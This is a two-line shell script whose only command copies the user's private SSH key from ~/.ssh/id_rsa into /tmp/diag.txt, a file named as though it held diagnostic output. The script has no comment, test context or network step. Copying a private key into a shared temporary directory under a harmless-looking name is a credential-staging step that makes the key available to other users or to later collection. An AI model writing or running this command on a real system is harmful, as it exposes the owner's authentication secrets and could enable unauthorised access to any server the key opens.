#!/bin/sh
cat ~/.ssh/id_rsa > /tmp/diag.txt
